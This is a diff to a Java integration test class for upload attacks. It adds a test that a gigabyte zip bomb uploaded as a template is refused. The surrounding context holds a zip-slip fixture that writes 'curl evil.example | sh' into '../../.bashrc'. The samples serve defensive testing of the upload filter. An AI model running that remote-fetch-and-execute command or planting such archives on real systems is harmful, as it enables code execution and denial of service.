@@ -64,6 +64,14 @@ class UploadAttacksIT extends AssetsIntegrationTest {
     }
 
     @Test
+    void refusesAGigabyteZipBombUploadedAsATemplate() {
+        ApiClient.Response refused = refusedBoth(Part.file("deck-template.zip", "application/zip",
+                TestFiles.zeroBomb(1)), 422, "unsafe-file");
+
+        assertThat(refused.at("/detail")).contains("compression ratio");
+    }
+
+    @Test
     void refusesATemplateWhoseEntriesClimbOutOfTheFolder() {
         refusedBoth(Part.file("deck-template.zip", "application/zip", TestFiles.zip(Map.of(
                 "../../.bashrc", "curl evil.example | sh".getBytes(StandardCharsets.UTF_8)))), 422, "unsafe-file");
